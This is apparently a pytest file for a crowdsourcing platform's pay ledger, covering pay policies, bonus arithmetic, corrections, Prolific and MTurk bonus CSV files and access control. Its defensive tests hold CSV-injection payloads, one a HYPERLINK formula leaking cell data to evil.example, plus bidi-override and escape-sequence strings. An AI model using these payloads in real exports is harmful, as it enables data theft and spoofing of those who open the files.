"""The pay ledger (issue #13, items 3 and 4): the task YAML's pay policy, the append-only ledger
computed after a build, corrections, the platforms' bulk-bonus files and the crowd report.

The attackers come first; then the issue's "Done when": a small round built by hand (examples
written and labelled through the API, study sessions as the study links would leave them), built
through the real build route, whose ledger must be exactly the rows written out below by hand.
"""

from __future__ import annotations

import datetime as dt
import threading
from dataclasses import dataclass
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import delete, select

from services.db.engine import session_scope
from services.db.models import (
    Example,
    LedgerEntry,
    Platform,
    PlatformAccount,
    StudyLink,
    StudyRole,
    StudySession,
    StudySessionStatus,
    Task,
    User,
    Validation,
)
from services.domain import duplicates, ledger, tasks
from services.taskdef import TaskDefinitionError, parse_task_definition
from tests.built_round import write_example
from tests.conftest import (
    Actor,
    MakeUser,
    example_yaml,
    label_example,
    label_served,
    open_round,
    table_counts,
    table_snapshot,
)
from tests.row_snapshots import reuse_rows
from tests.stub_model_server import ThreadedServer

pytestmark = pytest.mark.both_databases  # money: the ledger's rows, corrections and bonus files


API = "/api/v1"
TASK = "dynasent-r2"
PAY = {
    "currency": "GBP",
    "base_pay": {"writer": 150, "validator": 100},
    "writer_bonus_per_example": 10,
    "validator_bonus": {"per_batch": 20, "min_agreement": 0.8},
}
T0 = dt.datetime(2026, 1, 5, 9, 0, tzinfo=dt.UTC)  # when the study sessions started


# --- the pay policy in the task YAML -----------------------------------------------------------


def _with_pay(pay: Any) -> str:
    return example_yaml(TASK, onboarding_quiz=None, pay=pay)


def test_the_shipped_example_the_demo_runs_has_a_pay_policy() -> None:
    from services.taskdef import example_path, load_task_definition

    definition = load_task_definition(example_path(TASK))
    assert definition.pay is not None
    assert definition.pay.currency == "GBP"
    assert (definition.pay.base_pay.writer, definition.pay.base_pay.validator) == (150, 100)
    assert definition.pay.writer_bonus_per_example == 10
    # example_yaml leaves it out unless a test names one.
    assert "pay" not in example_yaml(TASK)


def test_a_pay_policy_parses_with_integers_in_minor_units() -> None:
    pay = parse_task_definition(_with_pay(PAY)).pay
    assert pay is not None and pay.currency == "GBP"
    assert (pay.base_pay.writer, pay.base_pay.validator, pay.writer_bonus_per_example) == (150, 100, 10)
    assert pay.validator_bonus is not None and pay.validator_bonus.min_agreement == 0.8


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"currency": "gbp"}, "ISO 4217"),
        ({"currency": "POUNDS"}, "ISO 4217"),
        ({"currency": "GB"}, "ISO 4217"),
        ({"writer_bonus_per_example": 1.5}, "writer_bonus_per_example"),
        ({"writer_bonus_per_example": -1}, "writer_bonus_per_example"),
        ({"writer_bonus_per_example": 10**12}, "writer_bonus_per_example"),
        ({"writer_bonus_per_example": True}, "writer_bonus_per_example"),
        ({"writer_bonus_per_example": "10"}, "writer_bonus_per_example"),
        ({"base_pay": {"writer": 150.0, "validator": 100}}, "base_pay.writer"),
        ({"base_pay": {"writer": 150, "reviewer": 100}}, "base_pay.reviewer"),
        ({"validator_bonus": {"per_batch": 20, "min_agreement": 0}}, "min_agreement"),
        ({"validator_bonus": {"per_batch": 20, "min_agreement": 1.5}}, "min_agreement"),
        ({"validator_bonus": {"per_batch": -20, "min_agreement": 0.8}}, "per_batch"),
        ({"tip": 5}, "pay.tip"),
    ],
)
def test_a_bad_pay_policy_is_refused_naming_the_field(change: dict[str, Any], words: str) -> None:
    with pytest.raises(TaskDefinitionError) as refused:
        parse_task_definition(_with_pay({**PAY, **change}))
    assert words in str(refused.value), str(refused.value)


def test_amounts_are_formatted_from_integers() -> None:
    assert ledger.format_amount(150, "GBP") == "1.50"
    assert ledger.format_amount(5, "USD") == "0.05"
    assert ledger.format_amount(-1234, "EUR") == "-12.34"
    assert ledger.format_amount(7, "JPY") == "7"
    assert ledger.format_amount(1001, "KWD") == "1.001"


# --- the hand-computed round -------------------------------------------------------------------


@dataclass
class HandRound:
    round_id: int
    researcher: Actor
    users: dict[str, int]  # username -> user id
    sessions: dict[str, int]  # username -> study session id
    examples: dict[str, int]  # E1..E5 -> example id
    build: dict[str, Any]


def _user_ids(app: Any) -> dict[str, int]:
    with session_scope(app.state.sessionmaker) as session:
        return {name: uid for uid, name in session.execute(select(User.id, User.username))}


def _link(session: Any, task_id: int, round_id: int, name: str, role: StudyRole, platform: Platform) -> StudyLink:
    link = StudyLink(
        slug=f"slug-{name}",
        name=name,
        task_id=task_id,
        round_id=round_id,
        role=role,
        platform=platform,
        quota=5,
        completion_code=f"C-{name}",
    )
    session.add(link)
    session.flush()
    return link


def _study_session(
    session: Any,
    link: StudyLink,
    user_id: int,
    status: StudySessionStatus,
    *,
    worker_id: str | None,
    assignment_id: str | None = None,
    minutes: int | None = None,
    last_seen: dt.datetime | None = None,
) -> int:
    if worker_id is not None:
        session.add(PlatformAccount(platform=link.platform, id_hash=f"hash-{worker_id}", user_id=user_id))
    row = StudySession(
        link_id=link.id,
        user_id=user_id,
        status=status,
        platform_worker_id=worker_id,
        platform_session_id=assignment_id,
        started_at=T0,
        last_seen_at=last_seen or T0,
        ended_at=T0 + dt.timedelta(minutes=minutes) if minutes is not None else None,
    )
    session.add(row)
    session.flush()
    return row.id


# Each example: (name, writer, target, text the stub model predicts from, the five labels).
# The stub predicts positive for "great", negative for "terrible", else neutral.
PLAN = [
    # fooled (predicted positive), majority negative = target: wanda's bonus
    ("E1", "wanda", "negative", "A great way to make me wait an hour.", ["negative"] * 5),
    # not fooled (predicted positive = target): no bonus
    ("E2", "wanda", "positive", "A great lunch in the sun.", ["positive"] * 5),
    # fooled (predicted neutral), majority neutral != target negative: no bonus
    ("E3", "wanda", "negative", "A plain lunch in the sun.", ["neutral", "neutral", "negative", "neutral", "neutral"]),
    # fooled (predicted negative), majority positive = target: wes's bonus
    (
        "E4",
        "wes",
        "positive",
        "A terrible amount of cheese, and I ate it all.",
        ["positive", "positive", "mixed", "positive", "positive"],
    ),
    # fooled (predicted positive), no label has 3 votes: no majority, no bonus (v5 gives no label)
    ("E5", "wes", "neutral", "A great menu board by the door.", ["positive", "negative", "neutral", "mixed"]),
    # Not fooled (prediction = target): no bonus. They give the build a second negative and a
    # second neutral gold label, so dev and test each get one; v1-v4 label them after their batch.
    ("F1", "wanda", "negative", "A terrible wait for cold soup.", ["negative"] * 4),
    ("F2", "wanda", "neutral", "A plain menu board by the door.", ["neutral"] * 4),
]
# A small round: relaxed dev/test rules (docs/round_builder.md, "Build policies").
BUILD = {"policy": "relaxed", "chance": False, "max_dev_test_share": 1.0}
VALIDATORS = ["v1", "v2", "v3", "v4", "v5"]


@pytest.fixture
def hand(client: TestClient, app: Any, make_user: MakeUser, stub_model: ThreadedServer) -> HandRound:
    """The round of the tables above, written once per test process and database, then copied
    (tests/row_snapshots.py)."""
    return reuse_rows(app, "hand", lambda: _write_hand_round(client, app, make_user, stub_model))


def _write_hand_round(client: TestClient, app: Any, make_user: MakeUser, stub_model: ThreadedServer) -> HandRound:
    researcher = make_user("rita", "researcher")
    round_ = open_round(
        client,
        researcher,
        example_yaml(TASK, onboarding_quiz=None, validation_batch_size=5, pay=PAY),
        stub_model.url,
        [f"Prompt {i}: the cafe on the corner serves lunch." for i in range(10)],
        target_label_mode="writer_choice",
    )
    writers = {name: make_user(name, "writer") for name in ("wanda", "wes")}
    validators = {name: make_user(name, "validator") for name in VALIDATORS}
    ids = _user_ids(app)
    with session_scope(app.state.sessionmaker) as session:
        task_id = session.scalars(select(Task.id).where(Task.name == TASK)).one()
        writing = _link(session, task_id, round_["id"], "writers", StudyRole.writer, Platform.prolific)
        labelling = _link(session, task_id, round_["id"], "validators", StudyRole.validator, Platform.mturk)
        sessions = {
            "wanda": _study_session(
                session,
                writing,
                ids["wanda"],
                StudySessionStatus.completed,
                worker_id="5a0c0ffee0000000000000a1",
                minutes=20,
            ),
            "wes": _study_session(
                session,
                writing,
                ids["wes"],
                StudySessionStatus.stopped,
                worker_id="5b0c0ffee0000000000000b2",
                minutes=5,
            ),
            "v1": _study_session(
                session,
                labelling,
                ids["v1"],
                StudySessionStatus.completed,
                worker_id="A1WORKER",
                assignment_id="ASG1",
                minutes=16,
            ),
            "v2": _study_session(
                session, labelling, ids["v2"], StudySessionStatus.stopped, worker_id="A2WORKER", assignment_id="ASG2"
            ),
            "v3": _study_session(
                session,
                labelling,
                ids["v3"],
                StudySessionStatus.screened_out,
                worker_id="A3WORKER",
                assignment_id="ASG3",
            ),
            # v4 came without a study link (an account made by hand): no platform id.
            "v5": _study_session(
                session,
                labelling,
                ids["v5"],
                StudySessionStatus.active,
                worker_id="A5WORKER",
                assignment_id="ASG5",
                last_seen=T0,  # long ago: abandoned
            ),
        }
    examples = {}
    for name, writer, target, text, _ in PLAN:
        example = write_example(client, writers[writer], round_["id"], target, text)
        examples[name] = example["id"]
    # Each validator labels what it is served: the batch E1..E5 (fooling examples first, then
    # E2, the least-validated), labelled in that order, then F1, F2 (v5 only E1..E4).
    labels_of = {examples[name]: labels for name, _, _, _, labels in PLAN}
    for position, validator in enumerate(VALIDATORS):

        def label_for(example_id: int | None, position: int = position) -> str | None:
            assert example_id is not None  # the task has no control items
            labels = labels_of[example_id]
            return labels[position] if position < len(labels) else None

        label_served(client, validators[validator], round_["id"], label_for)
    response = client.post(f"{API}/rounds/{round_['id']}/status", json={"status": "closed"}, headers=researcher.headers)
    assert response.status_code == 200, response.text
    response = client.post(f"{API}/rounds/{round_['id']}/build", json={"seed": 3, **BUILD}, headers=researcher.headers)
    assert response.status_code == 201, response.text
    return HandRound(round_["id"], researcher, ids, sessions, examples, response.json())


def _link_id(app: Any, name: str) -> int:
    with session_scope(app.state.sessionmaker) as session:
        return int(session.scalars(select(StudyLink.id).where(StudyLink.name == name)).one())


def _rows(app: Any) -> set[tuple[str, str, int, int | None, int]]:
    with session_scope(app.state.sessionmaker) as session:
        return {
            (e.kind.value, e.event_key, e.user_id, e.session_id, e.amount_minor)
            for e in session.scalars(select(LedgerEntry))
        }


def _expected(hand: HandRound) -> set[tuple[str, str, int, int | None, int]]:
    u, s, e, r = hand.users, hand.sessions, hand.examples, hand.round_id
    return {
        # Base pay: completed sessions only. wanda (writer) 150, v1 (validator) 100.
        # wes and v2 stopped, v3 screened out, v5 still active: none.
        ("base_pay", f"session:{s['wanda']}", u["wanda"], s["wanda"], 150),
        ("base_pay", f"session:{s['v1']}", u["v1"], s["v1"], 100),
        # Writer bonus 10: E1 (fooled, majority negative = target) and E4 (fooled, majority
        # positive 4 of 5 = target). E2 not fooled, E3 majority neutral != negative, E5 no majority.
        # Bonuses are paid for examples whatever the session's end (wes stopped).
        ("writer_bonus", f"example:{e['E1']}", u["wanda"], s["wanda"], 10),
        ("writer_bonus", f"example:{e['E4']}", u["wes"], s["wes"], 10),
        # Validator bonus 20 per whole batch of 5 with >= 0.8 (4 of 5) labels equal to the majority:
        #   majorities: E1 negative, E2 positive, E3 neutral, E4 positive, E5 none (never agrees)
        #   v1: neg pos neu pos pos -> E1 E2 E3 E4 agree = 4/5 = 0.8 -> 20
        #   v2: neg pos neu pos neg -> 4/5 -> 20
        #   v3: neg pos neg mix neu -> E1 E2 = 2/5 -> none
        #   v4: neg pos neu pos mix -> 4/5 -> 20 (no study session: session_id None)
        #   v5: neg pos neu pos (4 labels) -> no whole batch -> none
        # (v1-v4's 6th and 7th labels, on F1 and F2, are the start of a second batch: not whole.)
        ("validator_bonus", f"batch:{r}:{u['v1']}:0", u["v1"], s["v1"], 20),
        ("validator_bonus", f"batch:{r}:{u['v2']}:0", u["v2"], s["v2"], 20),
        ("validator_bonus", f"batch:{r}:{u['v4']}:0", u["v4"], None, 20),
    }


def test_the_ledger_after_a_built_round_gives_the_hand_computed_pay(app: Any, hand: HandRound) -> None:
    # The build's answer says what the ledger got: 150 + 100 + 10 + 10 + 20 + 20 + 20 = 330.
    assert hand.build["ledger"] == {"currency": "GBP", "entries_added": 7, "amount_added_minor": 330, "already_paid": 0}
    assert _rows(app) == _expected(hand)
    with session_scope(app.state.sessionmaker) as session:
        assert {e.currency for e in session.scalars(select(LedgerEntry))} == {"GBP"}
        assert {e.round_id for e in session.scalars(select(LedgerEntry))} == {hand.round_id}


def test_the_example_votes_in_the_fixture_are_what_the_comments_say(app: Any, hand: HandRound) -> None:
    """The fixture's arithmetic rests on these majorities: the newest build's gold labels."""
    with session_scope(app.state.sessionmaker) as session:
        task = tasks.get_task(session, TASK)
        from services.db.models import Round

        round_ = session.get(Round, hand.round_id)
        assert round_ is not None
        majority = ledger.round_gold_labels(session, tasks.definition_of(task), round_)
    e = hand.examples
    assert [majority[e[name]] for name in ("E1", "E2", "E3", "E4", "E5")] == [
        ["negative"],
        ["positive"],
        ["neutral"],
        ["positive"],
        None,
    ]


def test_recomputing_and_rebuilding_pays_nothing_twice(client: TestClient, app: Any, hand: HandRound) -> None:
    rita = hand.researcher
    before = table_snapshot(app, "ledger_entries")
    response = client.post(f"{API}/tasks/{TASK}/ledger/compute", json={}, headers=rita.headers)
    assert response.status_code == 200, response.text
    assert response.json()["entries_added"] == 0 and response.json()["already_paid"] == 7
    response = client.post(f"{API}/tasks/{TASK}/ledger/compute", json={"round_id": hand.round_id}, headers=rita.headers)
    assert response.json()["entries_added"] == 0
    rebuilt = client.post(f"{API}/rounds/{hand.round_id}/build", json={"seed": 4, **BUILD}, headers=rita.headers)
    assert rebuilt.status_code == 201, rebuilt.text
    assert rebuilt.json()["ledger"]["entries_added"] == 0
    assert table_snapshot(app, "ledger_entries") == before


def test_concurrent_computes_add_each_row_once(app: Any, hand: HandRound) -> None:
    """Two computes at once over a ledger missing rows (a second, unpaid session completed):
    one row for it, whoever wins."""
    with session_scope(app.state.sessionmaker) as session:
        link = session.scalars(select(StudyLink).where(StudyLink.name == "validators")).one()
        extra = _study_session(
            session, link, hand.users["v4"], StudySessionStatus.completed, worker_id="A4WORKER", minutes=10
        )
    errors: list[BaseException] = []
    barrier = threading.Barrier(2)

    def compute() -> None:
        try:
            barrier.wait(timeout=10)
            with session_scope(app.state.sessionmaker) as session:
                ledger.compute_ledger(session, None, tasks.get_task(session, TASK))
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=compute) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert not errors, errors
    assert _rows(app) == _expected(hand) | {("base_pay", f"session:{extra}", hand.users["v4"], extra, 100)}


# --- corrections -------------------------------------------------------------------------------


def _entry_id(app: Any, event_key: str) -> int:
    with session_scope(app.state.sessionmaker) as session:
        return session.scalars(select(LedgerEntry.id).where(LedgerEntry.event_key == event_key)).one()


def test_a_correction_is_a_new_row_and_never_edits_the_original(client: TestClient, app: Any, hand: HandRound) -> None:
    entry_id = _entry_id(app, f"example:{hand.examples['E1']}")
    with app.state.engine.connect() as connection:
        from sqlalchemy import text

        original = connection.execute(text("SELECT * FROM ledger_entries WHERE id = :id"), {"id": entry_id}).one()
    first = client.post(
        f"{API}/ledger/{entry_id}/corrections",
        json={"amount_minor": 15, "reason": "  agreed   on appeal "},
        headers=hand.researcher.headers,
    )
    assert first.status_code == 201, first.text
    second = client.post(
        f"{API}/ledger/{entry_id}/corrections",
        json={"amount_minor": -5, "reason": "over-corrected"},
        headers=hand.researcher.headers,
    )
    assert second.status_code == 201, second.text
    assert (first.json()["kind"], first.json()["corrects_id"], first.json()["event_key"]) == (
        "correction",
        entry_id,
        f"correction:{entry_id}:1",
    )
    assert first.json()["reason"] == "agreed on appeal"
    assert second.json()["event_key"] == f"correction:{entry_id}:2"
    with app.state.engine.connect() as connection:
        from sqlalchemy import text

        after = connection.execute(text("SELECT * FROM ledger_entries WHERE id = :id"), {"id": entry_id}).one()
    assert tuple(after) == tuple(original)
    # A correction of a correction is refused: correct the original again.
    refused = client.post(
        f"{API}/ledger/{first.json()['id']}/corrections",
        json={"amount_minor": 1, "reason": "again"},
        headers=hand.researcher.headers,
    )
    assert refused.status_code == 422
    # The statement shows every row; the totals count corrections in the kind they correct.
    statement = client.get(f"{API}/tasks/{TASK}/ledger/workers/{hand.users['wanda']}", headers=hand.researcher.headers)
    assert statement.status_code == 200, statement.text
    body = statement.json()
    assert [row["kind"] for row in body["entries"]] == ["base_pay", "writer_bonus", "correction", "correction"]
    # 150 base; 10 bonus + 15 - 5 corrections = 20
    assert {k: body["totals"][k] for k in ("base_pay", "writer_bonus", "validator_bonus", "corrections", "total")} == {
        "base_pay": 150,
        "writer_bonus": 20,
        "validator_bonus": 0,
        "corrections": 10,
        "total": 170,
    }


@pytest.mark.parametrize(
    "body",
    [
        {"amount_minor": 10**12, "reason": "huge"},
        {"amount_minor": -(10**12), "reason": "huge the other way"},
        {"amount_minor": 1.5, "reason": "a float"},
        {"amount_minor": "15", "reason": "a string"},
        {"amount_minor": True, "reason": "a boolean"},
        {"amount_minor": 0, "reason": "nothing"},
        {"amount_minor": 5, "reason": ""},
        {"amount_minor": 5, "reason": "x" * 501},
        {"amount_minor": 5},
        {"amount_minor": 5, "reason": "ok", "user_id": 1},
    ],
)
def test_a_bad_correction_is_refused_and_changes_nothing(
    client: TestClient, app: Any, hand: HandRound, body: dict[str, Any]
) -> None:
    entry_id = _entry_id(app, f"session:{hand.sessions['wanda']}")
    before = table_counts(app)
    response = client.post(f"{API}/ledger/{entry_id}/corrections", json=body, headers=hand.researcher.headers)
    assert response.status_code == 422, response.text
    assert table_counts(app) == before


# --- the bulk-bonus files and the crowd report ----------------------------------------------------


def test_the_bonus_files_are_exactly_the_platforms_formats(client: TestClient, app: Any, hand: HandRound) -> None:
    rita = hand.researcher
    wanda_bonus = _entry_id(app, f"example:{hand.examples['E1']}")
    v1_base = _entry_id(app, f"session:{hand.sessions['v1']}")
    for entry_id, amount in ((wanda_bonus, 15), (v1_base, -50)):
        response = client.post(
            f"{API}/ledger/{entry_id}/corrections", json={"amount_minor": amount, "reason": "fix"}, headers=rita.headers
        )
        assert response.status_code == 201, response.text
    prolific = client.post(
        f"{API}/tasks/{TASK}/payout-batches", json={"link_id": _link_id(app, "writers")}, headers=rita.headers
    )
    assert prolific.status_code == 201, prolific.text
    batch = prolific.json()["batch"]
    # wanda: 10 (E1) + 15 (correction of a bonus) = 25 -> 0.25; wes: 10 (E4) -> 0.10.
    # v1, v2 (the MTurk link's) and v4 (no study link) are not in this study's file: named apart.
    prolific_file = client.get(f"{API}/payout-batches/{batch['id']}/file", headers=rita.headers)
    assert prolific_file.text == "5a0c0ffee0000000000000a1,0.25\n5b0c0ffee0000000000000b2,0.10\n"
    assert prolific_file.headers["content-disposition"] == f'attachment; filename="{batch["filename"]}"'
    assert prolific_file.headers["content-type"].startswith("text/csv")
    assert sorted((e["link_name"], tuple(e["usernames"])) for e in prolific.json()["elsewhere"] if e["link_name"]) == [
        ("validators", ("v1", "v2"))
    ]
    assert [e["usernames"] for e in prolific.json()["elsewhere"] if e["link_name"] is None] == [["v4"]]
    # The MTurk link's study is paid in the task's GBP, and MTurk pays in USD only: refused.
    counts = table_counts(app)
    mturk = client.post(
        f"{API}/tasks/{TASK}/payout-batches", json={"link_id": _link_id(app, "validators")}, headers=rita.headers
    )
    assert mturk.status_code == 422, mturk.text
    assert "USD only" in mturk.json()["error"]["message"]
    assert table_counts(app) == counts
    # The totals: 330 computed + 15 - 50 = 295.
    totals = client.get(f"{API}/tasks/{TASK}/ledger", headers=rita.headers).json()
    assert totals["total"] == 295 and totals["currency"] == "GBP" and totals["count"] == 5
    v1 = next(row for row in totals["data"] if row["username"] == "v1")
    assert (v1["base_pay"], v1["validator_bonus"], v1["corrections"], v1["total"]) == (50, 20, -50, 70)

    # The crowd report, at a fixed "now" three hours after the sessions started.
    with session_scope(app.state.sessionmaker) as session:
        report = ledger.crowd_report(session, tasks.get_task(session, TASK), now=T0 + dt.timedelta(hours=3))
    writers, validators = report.links
    assert writers.sessions == {
        "started": 2,
        "active": 0,
        "completed": 1,
        "screened_out": 0,
        "stopped": 1,
        "abandoned": 0,
    }
    assert validators.sessions == {
        "started": 4,
        "active": 1,
        "completed": 1,
        "screened_out": 1,
        "stopped": 1,
        "abandoned": 1,  # v5, last seen 3 hours ago
    }
    assert (writers.median_minutes, validators.median_minutes) == (20.0, 16.0)
    # Writers' link rows: wanda 150 base, bonuses 10 + 10 (wes, stopped session) + 15 correction.
    assert (writers.base_pay, writers.bonuses, writers.corrections) == (150, 20, 15)
    # wanda earned 150 + 10 + 15 = 175 in 20 minutes: 175 * 60 / 20 = 525 per hour.
    assert writers.effective_hourly_minor == 525
    # v1 earned 100 + 20 - 50 = 70 in 16 minutes: 70 * 60 / 16 = 262.5, half-up 263 per hour.
    assert validators.effective_hourly_minor == 263
    api_report = client.get(f"{API}/tasks/{TASK}/crowd-report", headers=rita.headers)
    assert api_report.status_code == 200, api_report.text
    assert [link["name"] for link in api_report.json()["data"]] == ["writers", "validators"]


# Ids a participant chooses in the study link (PROLIFIC_PID=..., workerId=...) that a spreadsheet
# would evaluate as a formula (OWASP "CSV injection": cells starting with = + - @ tab or CR), or
# that no platform issues.
HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"pay")', "-2+3", "+1", "@SUM(1+1)", "\tcmd", "\rX", "PID_WES"]


@pytest.mark.parametrize("hostile", HOSTILE_IDS)
def test_an_id_the_platform_never_issues_never_reaches_a_bonus_file(
    client: TestClient, app: Any, hand: HandRound, hostile: str
) -> None:
    """wes (Prolific) arrived with a made-up id: the payout batch leaves him out and names him, so
    no cell is evaluated and no one is paid by that id (MTurk's ids: tests/test_payouts.py)."""
    with session_scope(app.state.sessionmaker) as session:
        for name, worker, assignment in (("wes", hostile, None), ("v1", hostile, "ASG1"), ("v2", "A2WORKER", hostile)):
            row = session.get(StudySession, hand.sessions[name])
            assert row is not None
            row.platform_worker_id = worker
            if assignment is not None:
                row.platform_session_id = assignment
    before = table_snapshot(app, "ledger_entries", "study_sessions")
    rita = hand.researcher
    prolific = client.post(
        f"{API}/tasks/{TASK}/payout-batches", json={"link_id": _link_id(app, "writers")}, headers=rita.headers
    )
    assert prolific.status_code == 201, prolific.text
    text = client.get(f"{API}/payout-batches/{prolific.json()['batch']['id']}/file", headers=rita.headers).text
    assert text == "5a0c0ffee0000000000000a1,0.10\n"  # wanda alone
    held = prolific.json()["held_back"]
    assert [h["username"] for h in held] == ["wes"] and "not one prolific issues" in held[0]["reason"]
    cells = [cell for line in text.splitlines() for cell in line.split(",")]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
    assert table_snapshot(app, "ledger_entries", "study_sessions") == before


@pytest.mark.parametrize(
    "reason",
    [
        "refund \u202egnp.exe",  # right-to-left override: shows another reason than it stores
        "refund \u2066isolated\u2069",  # isolates
        "paid \u202atwice",  # left-to-right embedding
        "NUL \x00 inside",
        "escape \x1b[31m red",
        "bell \x07",
        "\u200b\u200b",  # only invisible characters
    ],
)
def test_a_correction_reason_follows_the_text_policy(
    client: TestClient, app: Any, hand: HandRound, reason: str
) -> None:
    entry_id = _entry_id(app, f"session:{hand.sessions['wanda']}")
    before = table_snapshot(app, "ledger_entries", "audit_log")
    response = client.post(
        f"{API}/ledger/{entry_id}/corrections",
        json={"amount_minor": 5, "reason": reason},
        headers=hand.researcher.headers,
    )
    assert response.status_code == 422, response.text
    message = response.json()["error"]["message"]
    assert message.startswith("reason "), message
    assert any(words in message for words in ("bidirectional control", "control character", "is empty")), message
    assert table_snapshot(app, "ledger_entries", "audit_log") == before


@pytest.mark.parametrize(
    "reason",
    [
        "क्\u200dष bonus missed",  # Devanagari with a zero width joiner
        "می\u200cخواهم bonus",  # Persian with a zero width non-joiner
        "ሰላም፡ዓለም ጉርሻ",  # Ge'ez
        "مبلغ ۱۲ \u200fپوند",  # a right-to-left mark is kept
    ],
)
def test_a_correction_reason_in_any_script_is_kept_with_its_joiners(
    client: TestClient, app: Any, hand: HandRound, reason: str
) -> None:
    entry_id = _entry_id(app, f"session:{hand.sessions['wanda']}")
    response = client.post(
        f"{API}/ledger/{entry_id}/corrections",
        json={"amount_minor": 5, "reason": reason},
        headers=hand.researcher.headers,
    )
    assert response.status_code == 201, response.text
    with session_scope(app.state.sessionmaker) as session:
        stored = session.get(LedgerEntry, response.json()["id"])
        assert stored is not None and stored.reason == reason


# --- attackers --------------------------------------------------------------------------------


def test_another_groups_researcher_is_told_there_is_no_such_task_or_entry(
    client: TestClient, app: Any, hand: HandRound, make_user: MakeUser
) -> None:
    oscar = make_user("oscar", "researcher")
    entry_id = _entry_id(app, f"session:{hand.sessions['wanda']}")
    before = table_snapshot(app, "ledger_entries")
    counts = table_counts(app)
    no_task = f"no task {TASK!r}; list tasks with GET /api/v1/tasks"
    calls: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", f"{API}/tasks/{TASK}/ledger/compute", {"json": {}}),
        ("GET", f"{API}/tasks/{TASK}/ledger", {}),
        ("GET", f"{API}/tasks/{TASK}/ledger/workers/{hand.users['wanda']}", {}),
        ("GET", f"{API}/tasks/{TASK}/payout-batches", {}),
        ("GET", f"{API}/tasks/{TASK}/crowd-report", {}),
    ]
    for method, url, kwargs in calls:
        response = client.request(method, url, headers=oscar.headers, **kwargs)
        assert response.status_code == 404, (url, response.text)
        assert response.json()["error"]["message"] == no_task
    response = client.post(
        f"{API}/ledger/{entry_id}/corrections", json={"amount_minor": 10**4, "reason": "mine"}, headers=oscar.headers
    )
    missing = client.post(
        f"{API}/ledger/{entry_id + 1000}/corrections", json={"amount_minor": 1, "reason": "x"}, headers=oscar.headers
    )
    assert response.status_code == missing.status_code == 404
    assert response.json()["error"]["message"] == missing.json()["error"]["message"].replace(
        str(entry_id + 1000), str(entry_id)
    )
    assert table_counts(app) == counts
    assert table_snapshot(app, "ledger_entries") == before


def test_workers_cannot_call_the_ledger_routes(
    client: TestClient, app: Any, hand: HandRound, make_user: MakeUser
) -> None:
    writer, validator = make_user("sneaky-w", "writer"), make_user("sneaky-v", "validator")
    entry_id = _entry_id(app, f"example:{hand.examples['E1']}")
    counts = table_counts(app)
    for actor in (writer, validator):
        for method, url, kwargs in [
            ("POST", f"{API}/tasks/{TASK}/ledger/compute", {"json": {}}),
            ("GET", f"{API}/tasks/{TASK}/ledger", {}),
            ("GET", f"{API}/tasks/{TASK}/ledger/workers/{hand.users['wanda']}", {}),
            ("GET", f"{API}/tasks/{TASK}/payout-batches", {}),
            ("GET", f"{API}/tasks/{TASK}/crowd-report", {}),
            ("POST", f"{API}/ledger/{entry_id}/corrections", {"json": {"amount_minor": 500, "reason": "me"}}),
        ]:
            response = client.request(method, url, headers=actor.headers, **kwargs)
            assert response.status_code == 403, (actor.username, url, response.text)
    # Not even their own statement: the ledger is the researcher's (wanda has a token too).
    with session_scope(app.state.sessionmaker) as session:
        from services.domain import users

        _, token = users.issue_token(session, None, users.get_user(session, "wanda"))
    counts = table_counts(app)
    own = {"Authorization": f"Bearer {token}"}
    response = client.get(f"{API}/tasks/{TASK}/ledger/workers/{hand.users['wanda']}", headers=own)
    assert response.status_code == 403
    assert table_counts(app) == counts


def test_a_researcher_cannot_correct_another_tasks_entry(
    client: TestClient, app: Any, hand: HandRound, make_user: MakeUser, stub_model: ThreadedServer
) -> None:
    """Oscar owns a task of his own with a pay policy; Rita's entry is not his to correct, and
    his round is not Rita's to compute through her task."""
    oscar = make_user("oscar", "researcher")
    other = open_round(
        client,
        oscar,
        example_yaml(TASK, onboarding_quiz=None, pay=PAY).replace("name: dynasent-r2", "name: oscar-sentiment", 1),
        stub_model.url,
        ["A prompt about lunch."],
    )
    entry_id = _entry_id(app, f"session:{hand.sessions['wanda']}")
    before = table_snapshot(app, "ledger_entries")
    response = client.post(
        f"{API}/ledger/{entry_id}/corrections", json={"amount_minor": -150, "reason": "sabotage"}, headers=oscar.headers
    )
    assert response.status_code == 404, response.text
    assert response.json()["error"]["message"].startswith(f"no ledger entry {entry_id};")
    # Rita computing "her" task with Oscar's round: his round is not in her task.
    response = client.post(
        f"{API}/tasks/{TASK}/ledger/compute", json={"round_id": other["id"]}, headers=hand.researcher.headers
    )
    assert response.status_code == 404, response.text
    assert table_snapshot(app, "ledger_entries") == before


def test_a_task_without_a_pay_policy_has_no_ledger(
    client: TestClient, app: Any, researcher: Actor, stub_model: ThreadedServer
) -> None:
    open_round(client, researcher, example_yaml(TASK, onboarding_quiz=None), stub_model.url, ["A prompt."])
    counts = table_counts(app)
    response = client.post(f"{API}/tasks/{TASK}/ledger/compute", json={}, headers=researcher.headers)
    assert response.status_code == 422
    assert "no pay policy" in response.json()["error"]["message"]
    assert client.get(f"{API}/tasks/{TASK}/ledger", headers=researcher.headers).json()["data"] == []
    assert table_counts(app) == counts


def test_a_build_stands_when_the_ledger_fails(
    client: TestClient, app: Any, hand: HandRound, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("ledger exploded")

    monkeypatch.setattr(ledger, "compute_ledger", broken)
    before = table_snapshot(app, "ledger_entries")
    response = client.post(
        f"{API}/rounds/{hand.round_id}/build", json={"seed": 9, **BUILD}, headers=hand.researcher.headers
    )
    assert response.status_code == 201, response.text
    assert "ledger exploded" in response.json()["ledger"]["error"]
    assert "computing the ledger" in caplog.text
    assert table_snapshot(app, "ledger_entries") == before


# --- the command line ---------------------------------------------------------------------------


def test_the_ledger_command_computes_shows_pays_and_corrects(app: Any, hand: HandRound, settings: Any) -> None:
    from typer.testing import CliRunner

    from dynaloop.cli import app as cli

    runner = CliRunner()
    url = ["--database-url", settings.database_url]

    def run(*args: str) -> Any:
        return runner.invoke(cli, ["ledger", *args, *url], catch_exceptions=False)

    computed = run("compute", "--task", TASK, "--round", "1")
    assert computed.exit_code == 0, computed.output
